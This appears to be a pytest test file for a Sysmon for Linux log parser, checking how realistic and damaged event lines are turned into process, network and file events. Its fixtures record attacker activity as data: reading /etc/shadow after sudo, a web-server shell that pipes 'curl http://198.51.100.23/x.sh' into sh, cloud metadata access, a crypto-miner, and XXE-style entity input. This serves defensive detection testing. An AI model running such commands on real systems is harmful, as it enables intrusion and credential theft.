"""Sysmon for Linux adapter: the public sample, realistic fixtures, damaged lines."""

from __future__ import annotations

from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from app.adapters import Accepted, Outcome, RawRecord, Rejected, get_adapter, sysmon
from app.events import FileEvent, NetworkEvent, ProcessExec, record_id
from app.framing import lines
from tests.conftest import DATASETS

FIXTURES = Path(__file__).parent / "fixtures" / "sysmon"
SAMPLE = DATASETS / "sysmon-linux-sigma-imds" / "6c1f4d8a-2e5b-4c9f-a7d3-0b5e8f1c4a6d.xml"


def parse_file(path: Path) -> list[Outcome]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(sysmon.parse(lines(stream)))


def parse_line(text: str) -> Outcome:
    (outcome,) = sysmon.parse([RawRecord(1, text)])
    return outcome


def accepted(outcomes: list[Outcome]) -> dict[int, Accepted]:
    return {o.position: o for o in outcomes if isinstance(o, Accepted)}


def rejected(outcomes: list[Outcome]) -> dict[int, Rejected]:
    return {o.position: o for o in outcomes if isinstance(o, Rejected)}


def fixture_lines() -> list[str]:
    texts = [p.read_text(encoding="utf-8") for p in sorted(FIXTURES.glob("*.log"))]
    texts.append(SAMPLE.read_text(encoding="utf-8"))
    return [line for text in texts for line in text.split("\n") if line.strip()]


def test_is_the_sysmon_linux_format() -> None:
    adapter = get_adapter("sysmon-linux")
    assert (adapter.name, adapter.framing) == ("sysmon-linux", "lines")


def test_sample_is_accepted_with_its_values() -> None:
    (outcome,) = parse_file(SAMPLE)
    assert isinstance(outcome, Accepted)
    assert outcome.warnings == ()
    event = outcome.item
    assert isinstance(event, NetworkEvent)
    assert event.kind == "network_connect"
    assert event.id == "sysmon:swachchhanda-ubuntu-wkstn:154180"
    assert event.source == "sysmon-linux"
    assert event.ts == "2026-06-08T05:28:18.838000000Z"
    assert event.host.id == "swachchhanda-ubuntu-wkstn"
    assert event.process.key == "{ec2c9708-52f2-6a26-a106-000300000000}"
    assert event.process.pid == 1745
    assert event.process.exe == "/home/ubuntu/.nvm/versions/node/v24.11.1/bin/node"
    assert event.process.user == "ubuntu"
    assert event.network.model_dump() == {
        "protocol": "tcp",
        "family": "inet",
        "src_ip": "192.168.4.101",
        "src_port": 49848,
        "dst_ip": "169.254.169.254",
        "dst_port": 80,
    }


def test_the_syslog_prefix_does_not_change_the_event() -> None:
    line = SAMPLE.read_text(encoding="utf-8")
    xml = line[line.index("<Event>") :]
    with_prefix, without = parse_line(line), parse_line(xml)
    assert isinstance(with_prefix, Accepted) and isinstance(without, Accepted)
    assert with_prefix.item == without.item

    # without EventRecordID the id is a hash of the XML alone
    unnumbered = xml.replace("<EventRecordID>154180</EventRecordID>", "")
    first, second = parse_line("Jun  8 05:28:19 host sysmon: " + unnumbered), parse_line(unnumbered)
    assert isinstance(first, Accepted) and isinstance(second, Accepted)
    assert first.item.id == second.item.id == record_id("sysmon-linux", unnumbered)


def test_ssh_session() -> None:
    outcomes = parse_file(FIXTURES / "ssh_session.log")
    assert len(outcomes) == 15
    assert rejected(outcomes) == {}
    events = {p: o.item for p, o in accepted(outcomes).items()}
    assert all(o.warnings == () for o in outcomes if isinstance(o, Accepted))
    assert [events[p].kind for p in sorted(events)] == [
        "network_accept",
        "process_exec",
        "process_exec",
        "process_exec",
        "process_exec",
        "process_exec",
        "process_exit",
        "process_exec",
        "file_create",
        "process_exit",
        "process_exec",
        "network_connect",
        "process_exit",
        "process_exec",
        "file_unlink",
    ]
    assert {e.host.id for e in events.values()} == {"bastion-01"}
    assert events[1].id == "sysmon:bastion-01:20401"

    # the listener's accept: the model's src is sshd's end, dst the client
    accept = events[1]
    assert isinstance(accept, NetworkEvent)
    assert (accept.process.pid, accept.process.exe) == (711, "/usr/sbin/sshd")
    assert (accept.network.src_ip, accept.network.src_port) == ("10.0.1.5", 22)
    assert (accept.network.dst_ip, accept.network.dst_port) == ("203.0.113.77", 50122)

    bash = events[3]
    assert isinstance(bash, ProcessExec)
    assert bash.process.key == "{5f1a7c3e-1cdc-65f0-0718-a4b1c2d30000}"
    assert bash.process.model_dump(exclude_none=True) == {
        "key": "{5f1a7c3e-1cdc-65f0-0718-a4b1c2d30000}",
        "pid": 4130,
        "ppid": 4129,
        "exe": "/usr/bin/bash",
        "args": ["-bash"],
        "cwd": "/home/alice",
        "uid": 1001,
        "user": "alice",
        "session_id": 7,
        "start_time": "2024-03-12T09:14:04.317000000Z",
    }
    assert bash.parent is not None
    assert bash.parent.model_dump(exclude_none=True) == {
        "key": "{5f1a7c3e-1cdc-65f0-e5f6-5d3c9e7f0000}",
        "pid": 4129,
        "exe": "/usr/sbin/sshd",
        "args": ["sshd:", "alice@pts/0"],
        "user": "alice",
    }

    sudo, root_shell, cat = events[4], events[5], events[6]
    assert sudo.process.args == ["sudo", "-i"]
    assert sudo.parent is not None and sudo.parent.key == bash.process.key
    assert (root_shell.process.user, root_shell.process.uid) == ("root", 0)
    assert root_shell.parent is not None and root_shell.parent.pid == 4188
    assert cat.process.args == ["cat", "/etc/shadow"]
    assert cat.parent is not None and cat.parent.key == root_shell.process.key
    assert events[7].kind == "process_exit" and events[7].process.key == cat.process.key

    created, connect, unlinked = events[9], events[12], events[15]
    assert isinstance(created, FileEvent) and created.file.path == "/tmp/.s"
    assert created.process.key == events[8].process.key
    assert isinstance(connect, NetworkEvent)
    assert (connect.network.dst_ip, connect.network.dst_port) == ("198.51.100.20", 443)
    assert connect.process.exe == "/usr/bin/curl"
    assert isinstance(unlinked, FileEvent) and unlinked.file.path == "/tmp/.s"


def test_web_server_spawning_a_shell() -> None:
    outcomes = parse_file(FIXTURES / "web_shell.log")
    assert len(outcomes) == 15
    assert rejected(outcomes) == {}
    events = {p: o.item for p, o in accepted(outcomes).items()}
    shell = events[1]
    assert shell.process.exe == "/usr/bin/dash"
    assert shell.process.args == [
        "sh",
        "-c",
        "curl",
        "-fsSL",
        "http://198.51.100.23/x.sh",
        "|",
        "sh",
    ]
    assert (shell.process.user, shell.process.uid) == ("www-data", 33)
    assert shell.process.session_id == 4294967295
    assert shell.parent is not None
    assert (shell.parent.pid, shell.parent.exe) == (8833, "/usr/sbin/php-fpm8.2")
    assert shell.parent.args == ["php-fpm:", "pool", "www"]

    # line 2 is the XML without the syslog prefix
    assert events[2].process.args == ["curl", "-fsSL", "http://198.51.100.23/x.sh"]
    assert events[2].parent is not None and events[2].parent.key == shell.process.key

    imds = events[7]
    assert isinstance(imds, NetworkEvent)
    assert (imds.network.dst_ip, imds.network.dst_port) == ("169.254.169.254", 80)
    assert imds.process.key == events[6].process.key
    assert isinstance(events[10], FileEvent) and events[10].file.path == "/tmp/kdevtmpfsi"
    assert events[10].kind == "file_create"
    miner = events[13]
    assert isinstance(miner, NetworkEvent)
    assert miner.process.exe == "/tmp/kdevtmpfsi"
    assert (miner.network.dst_ip, miner.network.dst_port) == ("203.0.113.200", 3333)
    deleted = events[15]  # EventID 26, file delete detected
    assert isinstance(deleted, FileEvent)
    assert (deleted.kind, deleted.file.path) == (
        "file_unlink",
        "/var/www/html/uploads/.cache.php",
    )


def test_damaged_lines() -> None:
    outcomes = parse_file(FIXTURES / "damaged.log")
    assert len(outcomes) == 11
    good, bad = accepted(outcomes), rejected(outcomes)
    assert sorted(good) == [1, 2, 4, 5, 6]

    # cut by syslog inside the command line: what arrived whole is kept
    cut = good[1]
    assert cut.item.kind == "process_exec"
    assert cut.item.process.pid == 30111
    assert cut.item.process.exe == "/usr/bin/bash"
    assert cut.item.process.args == ["/usr/bin/bash"]
    assert cut.item.process.key == "{2e9f4a61-3cb8-65f0-2222-a4b1c2d30000}"
    assert cut.item.parent is None
    assert cut.warnings == (
        "line truncated inside <Data Name='CommandLine'>; lost: CommandLine, CurrentDirectory, "
        "User, LogonGuid, LogonId, TerminalSessionId, IntegrityLevel, Hashes, ParentProcessGuid, "
        "ParentProcessId, ParentImage, ParentCommandLine, ParentUser",
    )

    net = good[2]
    assert isinstance(net.item, NetworkEvent)
    assert net.item.network.dst_ip == "198.51.100.42"
    assert net.item.network.dst_port is None
    assert net.warnings == (
        "line truncated inside a <Data> tag; lost: DestinationHostname, DestinationPort, "
        "DestinationPortName",
    )

    # Sysmon's `&lt unknown process&gt ` (semicolons lost) is its unknown-process placeholder
    orphan = good[4]
    assert orphan.item.parent is not None
    assert orphan.item.parent.model_dump(exclude_none=True) == {"pid": 30169}
    assert len(orphan.warnings) == 2
    assert all("'&lt unknown process&gt '" in w for w in orphan.warnings)

    escaped = good[5]
    assert escaped.item.process.args == [
        "bash", "-c", "cat", "/etc/passwd", ">", "/tmp/p", "&&", "echo", '"done!"', "&xxe;", "&lt",
    ]  # fmt: skip
    assert escaped.warnings == (
        "CommandLine: malformed or unknown escape '&xxe;', '&lt' kept as text",
    )
    assert good[6].item.kind == "process_exit"  # no syslog prefix

    assert {p: r.reason for p, r in bad.items()} == {
        3: "line truncated inside a <Data> tag: the process identity (ProcessGuid) did not arrive",
        7: "not a Sysmon event: the line has no <Event>",
        8: "the line declares a DTD or entity; Sysmon never writes one, so it is refused",
        9: "EventID 16 (Sysmon configuration change) has no Storyline kind yet",
        10: "EventID 4 (Sysmon service state change) has no Storyline kind yet",
        11: "provider 'Microsoft-Windows-Sysmon' is not Sysmon for Linux (Linux-Sysmon)",
    }
    assert bad[8].raw.startswith("<!DOCTYPE Event")


def test_line_cut_between_elements() -> None:
    line = (FIXTURES / "ssh_session.log").read_text(encoding="utf-8").split("\n")[5]
    end = line.index("</Data>", line.index('<Data Name="CommandLine">')) + len("</Data>")
    outcome = parse_line(line[:end])
    assert isinstance(outcome, Accepted)
    assert outcome.item.process.args == ["cat", "/etc/shadow"]
    assert outcome.item.process.cwd is None
    assert outcome.warnings == (
        "line truncated after <Data Name='CommandLine'>; lost: CurrentDirectory, User, "
        "LogonGuid, LogonId, TerminalSessionId, IntegrityLevel, Hashes, ParentProcessGuid, "
        "ParentProcessId, ParentImage, ParentCommandLine, ParentUser",
    )


def test_network_line_cut_before_direction_is_rejected() -> None:
    line = SAMPLE.read_text(encoding="utf-8")
    outcome = parse_line(line[: line.index('<Data Name="Initiated">')])
    assert isinstance(outcome, Rejected)
    assert outcome.reason == (
        "line truncated after <Data Name='Protocol'>: Initiated (whether the connection was "
        "outgoing or incoming) did not arrive"
    )


def test_utc_time_lost_falls_back_to_time_created() -> None:
    line = SAMPLE.read_text(encoding="utf-8").replace(
        '<Data Name="UtcTime">2026-06-08 05:28:18.838</Data>', ""
    )
    outcome = parse_line(line)
    assert isinstance(outcome, Accepted)
    assert outcome.item.ts == "2026-06-08T05:28:19.189838000Z"
    assert outcome.warnings == (
        "UtcTime lost; the time is TimeCreated (when Sysmon wrote the event)",
    )


def test_single_quotes_and_self_closing_data() -> None:
    line = (
        "<Event><System><Provider Name='Linux-Sysmon'/><EventID>5</EventID>"
        "<EventRecordID>9</EventRecordID><Computer>h1</Computer></System><EventData>"
        "<Data Name='RuleName'/><Data Name='UtcTime'>2024-01-01 00:00:00.000</Data>"
        "<Data Name='ProcessGuid'>{a-b}</Data><Data Name='ProcessId'>42</Data>"
        "<Data Name='Image'>/usr/bin/true</Data><Data Name='User'/></EventData></Event>"
    )
    outcome = parse_line(line)
    assert isinstance(outcome, Accepted)
    assert outcome.warnings == ()
    assert outcome.item.id == "sysmon:h1:9"
    assert outcome.item.process.model_dump(exclude_none=True) == {
        "key": "{a-b}",
        "pid": 42,
        "exe": "/usr/bin/true",
    }


def test_only_predefined_entities_and_character_references_are_decoded() -> None:
    warnings: list[str] = []
    assert sysmon.unescape("a &lt;b&gt; &amp; &quot;c&quot; &apos;d&apos;", "X", warnings) == (
        "a <b> & \"c\" 'd'"
    )
    assert sysmon.unescape("&#65;&#x42;&#X43;", "X", warnings) == "ABC"
    assert warnings == []
    assert (
        sysmon.unescape("&#0; &#xD800; &lol9; &amp", "X", warnings) == "&#0; &#xD800; &lol9; &amp"
    )
    assert warnings == [
        "X: malformed or unknown escape '&#0;', '&#xD800;', '&lol9;', '&amp' kept as text"
    ]


def test_event_id_without_a_kind_and_unknown_event_ids() -> None:
    base = SAMPLE.read_text(encoding="utf-8")
    for event_id, reason in [
        ("10", "EventID 10 (process access) has no Storyline kind yet"),
        ("255", "EventID 255 (Sysmon error) has no Storyline kind yet"),
        ("7", "EventID 7 is not an event Sysmon for Linux writes"),
        ("x1", "EventID 'x1' is not a number"),
    ]:
        outcome = parse_line(base.replace("<EventID>3</EventID>", f"<EventID>{event_id}</EventID>"))
        assert isinstance(outcome, Rejected)
        assert outcome.reason == reason


def test_raw_access_read_is_a_device_open() -> None:
    line = (
        '<Event><System><Provider Name="Linux-Sysmon"/><EventID>9</EventID>'
        "<EventRecordID>77</EventRecordID><Computer>db-1</Computer></System><EventData>"
        '<Data Name="RuleName">-</Data><Data Name="UtcTime">2024-01-01 00:00:01.500</Data>'
        '<Data Name="ProcessGuid">{c-d}</Data><Data Name="ProcessId">900</Data>'
        '<Data Name="Image">/usr/bin/dd</Data><Data Name="Device">/dev/sda</Data>'
        '<Data Name="User">root</Data></EventData></Event>'
    )
    outcome = parse_line(line)
    assert isinstance(outcome, Accepted)
    assert isinstance(outcome.item, FileEvent)
    assert (outcome.item.kind, outcome.item.file.path) == ("file_open", "/dev/sda")


def test_every_truncation_of_every_line_is_handled() -> None:
    for line in fixture_lines():
        for end in range(len(line) + 1):
            outcome = parse_line(line[:end])
            assert isinstance(outcome, Accepted | Rejected)
            if isinstance(outcome, Rejected):
                assert outcome.reason and outcome.raw == line[:end]


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(fixture_lines()), st.integers(0, 2000), st.text(max_size=40))
def test_corrupted_lines_never_raise(line: str, at: int, noise: str) -> None:
    at = min(at, len(line))
    outcome = parse_line(line[:at] + noise + line[at:])
    assert isinstance(outcome, Accepted | Rejected)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>/=&;#x'\" DataNmeEvnt0123ID")), max_size=200))
def test_markup_soup_never_raises(text: str) -> None:
    assert isinstance(parse_line(text or " "), Accepted | Rejected)
